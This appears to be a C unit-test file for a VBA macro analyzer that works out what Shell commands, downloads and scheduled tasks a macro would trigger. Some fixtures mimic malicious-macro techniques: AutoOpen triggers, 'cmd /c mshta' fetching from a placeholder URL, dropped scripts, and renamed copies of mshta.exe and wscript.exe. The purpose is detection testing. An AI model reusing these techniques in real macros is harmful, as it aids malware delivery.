    { "a document from an address", SUB "Documents.Open \"http://example.invalid/d\"" END, EFFECT_DOWNLOAD, "url", "http://example.invalid/d", true },
    { "nothing calls it", "Sub pressed()\r\nShell \"a\"\r\nEnd Sub\r\n", EFFECT_RUN, "command", "a", false },
    { "an event of a control", "Private Sub Frame1_Layout()\r\nShell \"a\"\r\nEnd Sub\r\n", EFFECT_RUN, "command", "a", true },
    { "junk lines are left out", SUB "!!! ??? )(\r\nx = = 3\r\nShell \"a\"\r\nFor For For" END, EFFECT_RUN, "command", "a", true },
    { "functions without arguments", SUB "On Error Resume Next\r\nx = Split & Join & Mid & Replace & Asc & Chr & Hex & Round & IIf & Array & Environ & String\r\nShell \"a\"" END, EFFECT_RUN, "command", "a", true },
    { "no End Sub", "Sub AutoOpen()\r\nShell \"a\"\r\n", EFFECT_RUN, "command", "a", true },
    { "junk in a loop", SUB "For i = 1 To 300: q = StrReverse(\"abc\"): w = 1 + 2: s = i: Next\r\nShell s" END, EFFECT_RUN, "command", "300", true },
    { "junk that fails, in a trap", SUB "On Error Resume Next\r\nFor i = 1 To 3: q = Mid(\"abc\", 0, 1): n = n + Err.Number: Err.Clear: Next\r\nShell n" END,
      EFFECT_RUN, "command", "15", true },
    { "a way that leaves with another value", "Function f()\r\nIf Rnd > 1 Then\r\nf = 8\r\nExit Function\r\nEnd If\r\nf = 0\r\nEnd Function\r\n" SUB "Shell \"a\" & f()" END,
      EFFECT_RUN, "command", "a⟂", false },
    { "two ways that leave", "Function f()\r\nIf Rnd > 1 Then\r\nf = \"\"\r\nExit Function\r\nEnd If\r\nIf Rnd > 1 Then\r\nf = 8\r\nExit Function\r\nEnd If\r\nf = \"\"\r\nEnd Function\r\n"
      SUB "Shell \"a\" & f()" END, EFFECT_RUN, "command", "a⟂", false },
    { "junk at the end of an unknown way", SUB "For i = 1 To 3\r\nIf Rnd > 1 Then\r\nq = 1\r\nEnd If\r\nw = 2\r\nNext\r\nShell i" END,
      EFFECT_RUN, "command", "4", true },
    { "a constant of a procedure that is called twice", "Function f()\r\nConst k = \"a\"\r\nf = k\r\nEnd Function\r\n" SUB "Shell f & f" END,
      EFFECT_RUN, "command", "aa", true },
    { "a parameter that nothing reads", "Sub p(x)\r\nx = \"b\"\r\nEnd Sub\r\n" SUB "p s: s = \"\": p s: Shell s" END, EFFECT_RUN, "command", "b", true },
    { "a file that is read byte by byte", SUB "Open \"x\" For Binary As 1\r\nFor k = 1 To 900000: Get 1, , b: Next\r\nShell \"a\"" END,
      EFFECT_RUN, "command", "a", false },
    { "blocks without an end", SUB "If True Then\r\nWith x\r\nFor i = 1 To 1\r\nShell \"a\"" END, EFFECT_RUN, "command", "a", true },
};

static void statements(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, programs) {
        struct tally *r = run(slice_of(row->source));
        const struct effect *e = tally_effect(r, row->kind, 0);
        table_slice(&t, row->name, tally_argument(e, row->argument), row->want);
        if (e && tally_certain(e) != row->known)
            table_wrong(&t, row->name, "is %s", tally_certain(e) ? "known" : "partial");
        tally_drop(&r);
    }
}

/* --- both ways of what is not known: what one did to things is taken back for the other */

#define DICTIONARY "Set d = CreateObject(\"Scripting.Dictionary\"): d.Add 1, \"a\"\r\n"
#define SCRIPT_FILE "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\a.vbs\")\r\n"
#define RUNS "CreateObject(\"\"WScript.Shell\"\").Run "

static const struct effect_row ways[] = {
    { "a Dictionary emptied and filled by a way that leaves", "vba",
      SUB DICTIONARY "If Rnd > 1 Then\r\nd.RemoveAll: d.Add 2, \"b\": Exit Sub\r\nEnd If\r\nShell \"x\" & d.Item(1)" END, EFFECT_RUN, "command", "xa", CONDITIONAL },
    { "a value overwritten by a way that leaves", "vba",
      SUB DICTIONARY "If Rnd > 1 Then\r\nd.Item(1) = \"b\": Exit Sub\r\nEnd If\r\nShell \"x\" & d.Item(1)" END, EFFECT_RUN, "command", "xa", CONDITIONAL },
    { "a Dictionary that both ways add to, the second leaves", "vba",
      SUB DICTIONARY "If Rnd > 1 Then\r\nd.Add 2, \"b\"\r\nElse\r\nd.Add 3, \"c\": Exit Sub\r\nEnd If\r\nShell \"x\" & d.Item(2)" END, EFFECT_RUN, "command", "xb", CONDITIONAL },
    { "the same: what only the other way added is not there", "vba",
      SUB DICTIONARY "If Rnd > 1 Then\r\nd.Add 2, \"b\"\r\nElse\r\nd.Add 3, \"c\": Exit Sub\r\nEnd If\r\nShell \"x\" & d.Exists(3)" END, EFFECT_RUN, "command", "xFalse", CONDITIONAL },
    { "a Collection that grows in a way that leaves", "vba",
      SUB "Dim c As New Collection: c.Add \"a\"\r\nIf Rnd > 1 Then\r\nFor i = 1 To 20: c.Add i: Next: Exit Sub\r\nEnd If\r\nc.Add \"b\": Shell c(1) & c(2) & c.Count" END,
      EFFECT_RUN, "command", "ab2", CONDITIONAL },
    { "a Collection of which a way that leaves removes", "vba",
      SUB "Dim c As New Collection: c.Add \"a\": c.Add \"b\"\r\nIf Rnd > 1 Then\r\nc.Remove 1: c.Add \"z\": Exit Sub\r\nEnd If\r\nShell c(1) & c(2)" END,
      EFFECT_RUN, "command", "ab", CONDITIONAL },
    { "a Dictionary that is compared in another way is not clear again", "vba",
      SUB DICTIONARY "If Rnd > 1 Then d.Add 2, \"b\" Else d.RemoveAll\r\nd.CompareMode = 1: Shell \"x\" & d.Count" END, EFFECT_RUN, "command", "x" HOLE, PARTIAL },
    { "an error number set by a way that leaves", "vba",
      SUB "If Rnd > 1 Then\r\nErr.Number = 5: Exit Sub\r\nEnd If\r\nShell \"x\" & Err.Number" END, EFFECT_RUN, "command", "x0", CONDITIONAL },
    { "a request opened in both ways", "vba",
      SUB "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nIf Rnd > 1 Then h.Open \"GET\", \"http://a.example.invalid/\" Else h.Open \"GET\", \"http://b.example.invalid/\"\r\nh.Send" END,
      EFFECT_DOWNLOAD, "url", HOLE, PARTIAL },
    { "a request opened in both ways alike", "vba",
      SUB "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nIf Rnd > 1 Then h.Open \"GET\", \"http://a.example.invalid/\" Else h.Open \"GET\", \"http://a.example.invalid/\"\r\nh.Send" END,
      EFFECT_DOWNLOAD, "url", "http://a.example.invalid/", KNOWN },
    { "a script that a way that leaves closes", "vba",
      SUB SCRIPT_FILE "f.Write \"" RUNS "\"\"o\"\r\nIf Rnd > 1 Then\r\nf.Close: Exit Sub\r\nEnd If\r\nf.Write \"ne\"\"\": f.Close" END, EFFECT_RUN, "command", "one", CONDITIONAL },
    { "a script into which both ways print", "vba",
      SUB "Open \"C:\\a.vbs\" For Output As #1\r\nIf Rnd > 1 Then Print #1, \"x = \"\"a\"\"\" Else Print #1, \"x = \"\"b\"\"\"\r\nPrint #1, \"" RUNS "x\"\r\nClose #1" END,
      EFFECT_RUN, "command", "", NONE },
    { "a script that a way that leaves prints and closes", "vba",
      SUB "Open \"C:\\a.vbs\" For Output As #1\r\nPrint #1, \"x = \"\"a\"\"\"\r\nIf Rnd > 1 Then\r\nPrint #1, \"x = \"\"b\"\"\": Close #1: Exit Sub\r\nEnd If\r\nPrint #1, \"" RUNS "x\"\r\nClose #1" END,
      EFFECT_RUN, "command", "a", CONDITIONAL },
    { "a number of a file that a way that leaves opens", "vba",
      SUB "If Rnd > 1 Then\r\nOpen \"C:\\b.txt\" For Output As #1: Exit Sub\r\nEnd If\r\nShell \"x\" & FreeFile" END, EFFECT_RUN, "command", "x1", CONDITIONAL },
    { "a task whose program both ways set", "vba",
      SUB "Set s = CreateObject(\"Schedule.Service\")\r\nIf Rnd > 1 Then s.Path = \"a\" Else s.Path = \"b\"\r\ns.RegisterTaskDefinition \"t\"" END, EFFECT_PERSIST, "command", HOLE, PARTIAL },
    { "a sheet's cell that a way that leaves wrote", "vba",
      SUB "Range(\"A1\").Value = \"a\"\r\nIf Rnd > 1 Then\r\nRange(\"A1\").Value = \"b\": Exit Sub\r\nEnd If\r\nShell \"x\" & Range(\"A1\").Value" END,
      EFFECT_RUN, "command", "xa", CONDITIONAL },
    { "a path with a hole that is the same in both ways", "vba", SUB "If Rnd > 1 Then p = Environ(x) & \"\\a.exe\" Else p = Environ(y) & \"\\a.exe\"\r\nShell p" END,
      EFFECT_RUN, "command", HOLE "\\a.exe", PARTIAL },
    /* loops that are left before their end */
    { "a loop that is too long", "vba", SUB "For i = 1 To 3000000: n = n + i: Next\r\nShell \"a\" & n" END, EFFECT_RUN, "command", "a" HOLE, PARTIAL },
    { "its counter", "vba", SUB "For i = 1 To 3000000: n = n + i: Next\r\nShell \"a\" & i" END, EFFECT_RUN, "command", "a" HOLE, PARTIAL },
    { "what it does not change", "vba", SUB "s = \"a\": For i = 1 To 3000000: n = n + i: Next\r\nShell s" END, EFFECT_RUN, "command", "a", CONDITIONAL },
    { "a Do loop that is too long", "vba", SUB "Do While n < 3000000: n = n + 1: Loop\r\nShell \"a\" & n" END, EFFECT_RUN, "command", "a" HOLE, PARTIAL },
    { "a Do loop with the condition at its end", "vba", SUB "Do: n = n + 1: Loop Until n = 3000000\r\nShell \"a\" & n" END, EFFECT_RUN, "command", "a" HOLE, PARTIAL },
    { "a loop over a group that is too long", "vba", SUB "For Each x In Split(String(900000, \",\"), \",\"): n = n + 1: Next\r\nShell \"a\" & n" END, EFFECT_RUN, "command", "a" HOLE, PARTIAL },
    { "a loop behind one", "vba", SUB "For i = 1 To 3000000: n = n + i: Next\r\nFor i = 1 To 3: s = s & i: Next\r\nShell \"a\" & s" END, EFFECT_RUN, "command", "a" HOLE, PARTIAL },
    { "a Do loop behind one", "vba", SUB "For i = 1 To 3000000: n = n + i: Next\r\nDo While Len(s) < 3: s = s & \"b\": Loop\r\nShell \"a\" & s" END, EFFECT_RUN, "command", "a" HOLE, PARTIAL },
    { "a loop of GoTo that is too long", "vba", SUB "x: n = n + 1: s = \"a\"\r\nIf n < 3000000 Then GoTo x\r\nShell s" END, EFFECT_RUN, "command", "a", PARTIAL },
    /* who reaches it both ways reaches it */
    { "on a condition first, and then for sure", "vba", SUB "If Rnd > 1 Then Shell \"a\"\r\nShell \"a\"" END, EFFECT_RUN, "command", "a", KNOWN },
    { "the same in both ways", "vba", SUB "If Rnd > 1 Then Shell \"a\" Else Shell \"a\"" END, EFFECT_RUN, "command", "a", KNOWN },
    { "the same in both ways, on a condition", "vba", SUB "If Rnd > 2 Then\r\nIf Rnd > 1 Then Shell \"a\" Else Shell \"a\"\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
    { "the same in three of three", "vba", SUB "If Rnd > 2 Then\r\nIf Rnd > 1 Then Shell \"a\" Else Shell \"a\"\r\nElse\r\nShell \"a\"\r\nEnd If" END,
      EFFECT_RUN, "command", "a", KNOWN },
    { "the same in two of three", "vba", SUB "If Rnd > 2 Then\r\nIf Rnd > 1 Then Shell \"a\"\r\nElse\r\nShell \"a\"\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
    { "the same address in both ways", "vba",
      SUB "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nIf Rnd > 1 Then\r\nh.Open \"GET\", \"http://a.example.invalid/\": h.Send\r\nElse\r\nh.Open \"GET\", \"http://a.example.invalid/\": h.Send\r\nEnd If" END,
      EFFECT_DOWNLOAD, "url", "http://a.example.invalid/", KNOWN },
    { "in a procedure that may be left before it", "vba",
      "Sub b()\r\nIf Rnd > 3 Then Exit Sub\r\nShell \"a\"\r\nEnd Sub\r\n" SUB "If Rnd > 1 Then\r\nb\r\nElse\r\nb\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
    { "in a procedure that leaves behind it", "vba",
      "Sub b()\r\nIf Rnd > 3 Then\r\nShell \"a\": Exit Sub\r\nEnd If\r\nShell \"b\"\r\nEnd Sub\r\n" SUB "If Rnd > 1 Then\r\nb\r\nElse\r\nb\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
    { "the same in both ways, of which one leaves", "vba",
      SUB "If Rnd > 2 Then\r\nIf Rnd > 1 Then Shell \"a\": Exit Sub\r\nShell \"b\"\r\nElse\r\nShell \"a\"\r\nEnd If" END, EFFECT_RUN, "command", "a", CONDITIONAL },
    { "the same with another value in one way", "vba", SUB "If Rnd > 1 Then s = \"a\" Else s = \"b\"\r\nIf Rnd > 1 Then Shell \"a\" Else Shell s" END,
      EFFECT_RUN, "command", "a", CONDITIONAL },
    { "in a loop that may not begin", "vba", SUB "Do While Rnd > 1\r\nShell \"a\"\r\nLoop" END, EFFECT_RUN, "command", "a", CONDITIONAL },
    { "a command that both ways hand on", "vba", SUB "If Rnd > 1 Then Shell \"cmd /c mshta http://a.example.invalid/\" Else Shell \"cmd /c mshta http://a.example.invalid/\"" END,
      EFFECT_RUN, "command", "cmd /c mshta http://a.example.invalid/", KNOWN },
};

static void taken_back(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, ways)
        effect_row_check(&t, row);
}

/* --- what must end, and leave what was found */

static const struct {
    const char *name, *head, *piece;
    unsigned times;
    const char *tail;
} floods[] = {
    { "a loop without end", SUB "Shell \"a\"\r\nDo\r\nn = n + 1\r\nLoop", "", 0, END },
    { "an empty loop without end", SUB "Shell \"a\"\r\nDo: Loop", "", 0, END },
    { "GoTo back", SUB "Shell \"a\"\r\nagain: GoTo again", "", 0, END },
    { "recursion", SUB "Shell \"a\"\r\nAutoOpen", "", 0, END },
    { "two that call one another", "Sub b()\r\nc\r\nEnd Sub\r\nSub c()\r\nb\r\nEnd Sub\r\n" SUB "Shell \"a\"\r\nb", "", 0, END },
    { "a text that doubles", SUB "Shell \"a\"\r\ns = \"xx\"\r\nFor i = 1 To 100: s = s & s: Next", "", 0, END },
    { "ReDim to the end of memory", SUB "Shell \"a\"\r\nDim b()\r\nReDim b(2147483647)\r\nb(5) = 1", "", 0, END },
    { "String of two thousand million", SUB "Shell \"a\"\r\ns = String(2147483647, \"x\")", "", 0, END },
    { "parentheses", SUB "Shell \"a\"\r\nx = ", "(", 20000, END },
    { "unary minus", SUB "Shell \"a\"\r\nx = ", "-", 20000, "1" END },
    { "nested If", SUB "Shell \"a\"\r\n", "If Rnd Then\r\n", 3000, END },
    { "a chain of plus", SUB "Shell \"a\"\r\nx = 1", " + 1", 50000, END },
    { "many cases of an unknown", SUB "Shell \"a\"\r\nSelect Case Rnd\r\n", "Case 1\r\nx = x & 1\r\n", 3000, "End Select" END },
    { "many conditions with GoTo", SUB "Shell \"a\"\r\nback:\r\n", "If Rnd > 1 Then GoTo back\r\n", 500, END },
    { "a loop that forks", SUB "Shell \"a\"\r\nFor i = 1 To 100000\r\nIf Rnd > 1 Then s = s & 1 Else s = s & 2\r\nNext", "", 0, END },
    { "calls within arguments", SUB "Shell \"a\"\r\nx = ", "Left(", 3000, END },
    { "empty procedures", SUB "Shell \"a\"" END, "Sub q()\r\nEnd Sub\r\n", 5000, "" },
    { "an endless Resume", SUB "Shell \"a\"\r\nOn Error GoTo h\r\nx = 1 / 0\r\nh: Resume", "", 0, END },
    { "a constant made of itself", "Const p = q, q = p\r\n" SUB "Shell \"a\"\r\nx = p", "", 0, END },
    { "a Dictionary that grows", SUB "Shell \"a\"\r\nSet d = CreateObject(\"Scripting.Dictionary\")\r\nFor i = 1 To 1000000: d.Add i, i: Next", "", 0, END },
    { "Replace that grows", SUB "Shell \"a\"\r\ns = \"x\"\r\nFor i = 1 To 60: s = Replace(s, \"x\", \"xx\"): Next", "", 0, END },
    { "Split into a million", SUB "Shell \"a\"\r\na = Split(String(1000000, \",\"), \",\")\r\nb = a: c = Join(b, \"xyz\")", "", 0, END },
};

static void ends(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, floods) {
        struct buf b = buf_new(1 << 20);
        buf_text(&b, row->head);
        for (unsigned i = 0; i < row->times; i++)
            buf_text(&b, row->piece);
        buf_text(&b, row->tail);
        struct tally *r = run(buf_slice(&b));
        table_slice(&t, row->name, tally_argument(tally_effect(r, EFFECT_RUN, 0), "command"), "a");
        if (budget_default().left[BUDGET_WORK] - r->budget.left[BUDGET_WORK] > 1500u * 1000 * 1000)
            table_wrong(&t, row->name, "costs too much");
        tally_drop(&r);
        buf_drop(&b);
    }
}

static void hands_on(void **state)
{
    (void)state;
    struct tally *t = run(slice_of(SUB "Shell \"cmd /c echo\"\r\nOpen \"a.bat\" For Output As 1: Print #1, \"echo\": Close" END));
    assert_int_not_equal(tally_part_typed(t, "command"), NO_ID);
    assert_int_not_equal(tally_part_typed(t, "batch"), NO_ID);
    const struct effect *e = tally_effect(t, EFFECT_RUN, 0);
    assert_int_equal(e->n_via, 1);
    assert_true(slice_is(e->via[0], "AutoOpen"));
    assert_int_equal(e->n_origins, 1);
    assert_int_equal(e->origins[0].line, 2);
    tally_drop(&t);
}

/* What takes its time is paid for: the rounds are not all gone. */
static void texts_cost(void **state)
{
    static const struct {
        const char *name, *round;
    } rows[] = {
        { "comparing", "If s = t Then n = n + 1" },
        { "InStr", "n = n + InStr(s, u)" },
        { "InStrRev", "n = n + InStrRev(s, u) + Rnd" },
        { "Replace", "n = n + Len(Replace(s, u, \"c\"))" },
        { "Split", "n = n + UBound(Split(s, u))" },
        { "Filter", "n = n + UBound(Filter(Array(s), u))" },
        { "Like", "n = n + (s Like \"*\" & u & \"*\")" },
    };
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, rows) {
        struct buf b = buf_new(4096);
        buf_format(&b, SUB "s = String(100000, \"a\"): t = String(100000, \"a\"): u = String(50000, \"a\") & \"b\"\nFor i = 1 To 100000\n%s\nNext\nShell n" END, row->round);
        struct tally *r = tally_unmasked("vba", NULL, buf_slice(&b));
        const struct effect *e = tally_effect(r, EFFECT_RUN, 0);
        table_true(&t, row->name, !e || !tally_certain(e));
        tally_drop(&r);
        buf_drop(&b);
    }
}

/* As many names as fit are read or said to be too many. */
static void names_cost(void **state)
{
    (void)state;
    struct buf b = buf_new(16 << 20);
    buf_text(&b, SUB);
    for (int i = 0; i < 200000; i++)
        buf_format(&b, "v%d = %d\r\n", i, i);
    buf_text(&b, "Shell \"a\"" END);
    struct tally *r = tally_unmasked("vba", NULL, buf_slice(&b));
    tally_check(r);
    assert_true(tally_effect(r, EFFECT_RUN, 0) || tally_unread(r, UNREAD_LIMIT));
    tally_drop(&r);
    buf_drop(&b);
}

/* Who runs a file that was written says what it is read as, under whatever name he goes. */
static void hands_on_what_a_host_runs(void **state)
{
    (void)state;
#define PAGE_WRITTEN "Open \"C:\\a.html\" For Output As 1: Print #1, \"<html><p>x</p></html>\": Close\r\n"
    static const struct {
        const char *name, *code, *part;
        bool want;
    } rows[] = {
        { "a page by its host", SUB PAGE_WRITTEN "Shell \"mshta C:\\a.html\"" END, "html", true },
        { "a page by a copy of its host", SUB "FileCopy \"C:\\Windows\\System32\\mshta.exe\", \"C:\\b.com\"\r\n" PAGE_WRITTEN "Shell \"c:\\B.com C:\\a.html\"" END, "html", true },
        { "a page by a copy made by an object", SUB PAGE_WRITTEN "CreateObject(\"Scripting.FileSystemObject\").CopyFile \"C:\\mshta.exe\", \"C:\\b.com\"\r\nShell \"C:\\b.com C:\\a.html\"" END, "html", true },
        { "a script by a copy of its host", SUB "FileCopy \"C:\\wscript.exe\", \"C:\\b.exe\"\r\nOpen \"C:\\a.txt\" For Output As 1: Print #1, \"x = 1\": Close\r\nShell \"C:\\b.exe //e:vbscript C:\\a.txt\"" END, "vbscript", true },
        { "a page that nobody runs", SUB PAGE_WRITTEN END, "html", false },
        { "a page that is shown", SUB PAGE_WRITTEN "Shell \"explorer C:\\a.html\"" END, "html", false },
        { "a page by a copy of something else", SUB "FileCopy \"C:\\notepad.exe\", \"C:\\b.com\"\r\n" PAGE_WRITTEN "Shell \"C:\\b.com C:\\a.html\"" END, "html", false },
        { "a copy of the host that is not run", SUB "FileCopy \"C:\\mshta.exe\", \"C:\\b.com\"\r\n" PAGE_WRITTEN "Shell \"C:\\c.com C:\\a.html\"" END, "html", false },
        { "another file", SUB PAGE_WRITTEN "Shell \"mshta C:\\c.html\"" END, "html", false },
        { "the host alone", SUB "FileCopy \"C:\\mshta.exe\", \"C:\\b.com\"\r\nShell \"C:\\b.com\"" END, "html", false },
    };
    struct table t = { 0 };
    TABLE_EACH(&t, row, rows)
    {
        struct tally *r = run(slice_of(row->code));
        table_true(&t, row->name, (tally_part_typed(r, row->part) != NO_ID) == row->want);
        tally_check(r);
        tally_drop(&r);
    }
}

static void memory_fails_anywhere(void **state)
{
    (void)state;
    for (size_t n = 1; n < 400; n++) {
        struct tally_options o = { .fail_at = n };
        struct tally *t = tally_unmasked("vba", &o, slice_of(SUB "Dim d As New Collection\r\nd.Add \"a\": If Rnd Then s = Split(\"a b\")(0)\r\nShell s & d(1) & Replace(\"x\", \"x\", \"y\")" END));
        tally_check(t);
        tally_drop(&t);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(expressions), cmocka_unit_test(statements), cmocka_unit_test(taken_back), cmocka_unit_test(ends),
                                        cmocka_unit_test(hands_on), cmocka_unit_test(texts_cost), cmocka_unit_test(names_cost), cmocka_unit_test(hands_on_what_a_host_runs), cmocka_unit_test(memory_fails_anywhere) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
